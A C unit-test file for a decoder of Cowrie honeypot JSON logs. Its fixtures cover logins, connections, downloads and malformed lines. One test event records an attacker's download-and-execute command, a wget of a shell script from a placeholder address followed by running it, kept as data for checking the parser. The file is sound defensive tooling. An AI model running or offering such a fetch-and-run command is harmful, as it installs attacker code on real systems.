/*
 * Unit tests of the cowrie honeypot decoder.
 */
#include "vg_test.h"
#include "logfmt.h"

VG_TEST(logfmt_cowrie_logins)
{
	struct vg_event *ev;

	/* eventid last, as cowrie's Python writes it in some versions. */
	ev = vg_test_decode("{\"username\": \"admin\", \"timestamp\": "
	    "\"2018-05-08T00:07:59.055784Z\", \"message\": \"login attempt "
	    "[admin/1234] failed\", \"src_ip\": \"185.222.209.151\", "
	    "\"session\": \"1cffe6e0cee2\", \"password\": \"1234\", "
	    "\"sensor\": \"920497a79896\", \"eventid\": "
	    "\"cowrie.login.failed\"}");
	ASSERT_STR_EQ(ev->ev_dataset, "cowrie");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_AUTH);
	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
	ASSERT_VIEW_EQ(ev->ev_user, "admin");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "185.222.209.151");
	ASSERT_VIEW_EQ(ev->ev_host, "920497a79896");
	ASSERT_STR_EQ(vg_test_extra(ev, "cowrie.password"), "1234");
	ASSERT_STR_EQ(vg_test_extra(ev, "cowrie.session"), "1cffe6e0cee2");
	ev = vg_test_decode("{\"eventid\":\"cowrie.login.success\","
	    "\"username\":\"root\",\"password\":\"test\",\"src_ip\":\"2001:db8:"
	    ":bad:1\",\"src_port\":4022,\"timestamp\":\"2018-05-08T02:37:"
	    "35Z\"}");
	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_SUCCESS);
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "2001:db8::bad:1");
	ASSERT_INT_EQ(ev->ev_src_port, 4022);
	ev = vg_test_decode("{\"eventid\":\"cowrie.session.connect\","
	    "\"src_ip\":\"137.184.154.9\",\"src_port\":37416,\"dst_ip\":"
	    "\"172.18.0.2\",\"dst_port\":2222,\"timestamp\":\"2026-08-13T00:00:"
	    "34.803989Z\"}");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_CONNECT);
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_dst), "172.18.0.2");
	ASSERT_INT_EQ(ev->ev_dst_port, 2222);
}

VG_TEST(logfmt_cowrie_commands_and_files)
{
	struct vg_event *ev;
	bool url = false;
	unsigned i;

	ev = vg_test_decode("{\"eventid\":\"cowrie.command.input\",\"input\":"
	    "\"cd /tmp; wget http://198.51.100.77/bins.sh; sh bins.sh\","
	    "\"src_ip\":\"203.0.113.61\",\"timestamp\":\"2024-03-02T10:11:"
	    "12Z\"}");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_COMMAND);
	ASSERT_STR_EQ(vg_test_extra(ev, "process.command_line"),
	    "cd /tmp; wget http://198.51.100.77/bins.sh; sh bins.sh");
	for (i = 0; i < ev->ev_nobs; i++)
		url |= ev->ev_obs[i].ob_kind == VG_OBS_URL &&
		    VG_STR_EQ(ev->ev_obs[i].ob_value,
		    "http://198.51.100.77/bins.sh");
	ASSERT_TRUE(url);
	ev = vg_test_decode("{\"eventid\":\"cowrie.session.file_download\",\"ur"
	    "l\":\"http://198.51.100.77/bins.sh\",\"shasum\":\"3f3b1f2d5c0c6ab0"
	    "f0b7c8f6d1e3a5b7c9d2e4f6a8b0c1d3e5f7a9b1c3d5e7f9\",\"outfile\":\"d"
	    "l/3f3b\",\"src_ip\":\"203.0.113.61\",\"timestamp\":\"2024-03-02T10"
	    ":11:13Z\"}");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_FILE_TRANSFER);
	ASSERT_VIEW_EQ(ev->ev_url, "http://198.51.100.77/bins.sh");
	ASSERT_VIEW_EQ(ev->ev_hash, "3f3b1f2d5c0c6ab0f0b7c8f6d1e3a5b7c9d2e4f6a8"
	    "b0c1d3e5f7a9b1c3d5e7f9");
	ev = vg_test_decode("{\"eventid\":"
	    "\"cowrie.session.file_download.failed\",\"url\":\"http://"
	    "198.51.100.78/x86\",\"src_ip\":\"203.0.113.61\",\"timestamp\":"
	    "\"2024-03-02T10:11:14Z\"}");
	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
	/* The tty log's hash is not a file the attacker brought. */
	ev = vg_test_decode("{\"eventid\":\"cowrie.log.closed\",\"shasum\":\"e3"
	    "b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\","
	    "\"src_ip\":\"137.184.154.9\",\"timestamp\":\"2026-08-13T00:00:35Z"
	    "\"}");
	ASSERT_INT_EQ(ev->ev_hash.len, 0);
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_NONE);
}

VG_TEST(logfmt_cowrie_rejects)
{
	static const char *const lines[] = {
		/* A comma is missing between two members. */
		"{\"eventid\":\"cowrie.login.failed\",\"user\":\"x\" \"y\":1}",
		"{\"eventid\":\"cowrie.login.failed\",\"username\":",
		"{\"eventid\":\"dionaea.connection\",\"x\":\"cowrie.\"}",
		"{\"eventid\":\"cowrie.\"}",
		"{\"eventid\":42,\"note\":\"cowrie.x\"}",
		"not a json line at all \"cowrie.\" \"eventid\"",
	};
	static struct vg_event ev, copy;
	struct vg_logsrc ls;
	size_t i;

	vg_logsrc_init(&ls, "x");
	for (i = 0; i < VG_ARRAY_LEN(lines); i++) {
		vg_event_reset(&ev);
		ev.ev_pid = 99;
		memcpy(&copy, &ev, sizeof(ev));
		ASSERT_INT_EQ(vg_logfmt_cowrie.lf_line(&ls,
		    vg_str_make(lines[i], strlen(lines[i])), &ev),
		    VG_ERR_FORMAT);
		ASSERT_TRUE(memcmp(&ev, &copy, sizeof(ev)) == 0);
	}
}

/* The real sample: failed logins counted two independent ways. */
VG_TEST(logfmt_cowrie_real_counts)
{
	const char *path = vg_test_shared("logs/cowrie/cowrie.json.2018-05-08");
	static struct vg_event ev;
	struct vg_logsrc ls;
	size_t len, failed = 0, failed_text = 0, lines = 0, cowrie = 0;
	const char *p, *end, *q;
	struct vg_str line;
	char *buf;

	if (path == NULL)
		VG_SKIP("no ../shared");
	buf = vg_test_read(path, &len);
	vg_logsrc_init(&ls, path);
	for (p = buf, end = buf + len;
	    vg_test_decode_next(&ls, &p, end, &ev, &line);) {
		lines++;
		cowrie += ev.ev_dataset != NULL &&
		    strcmp(ev.ev_dataset, "cowrie") == 0;
		failed += ev.ev_action == VG_ACT_AUTH &&
		    ev.ev_outcome == VG_OUT_FAILURE;
	}
	vg_logsrc_cleanup(&ls);
	for (q = buf; (q = memmem(q, len - (size_t)(q - buf),
	    "\"cowrie.login.failed\"", 21)) != NULL; q++)
		failed_text++;
	free(buf);
	ASSERT_TRUE(failed_text > 100);
	ASSERT_UINT_EQ(failed, failed_text);
	ASSERT_UINT_EQ(cowrie, lines);
}
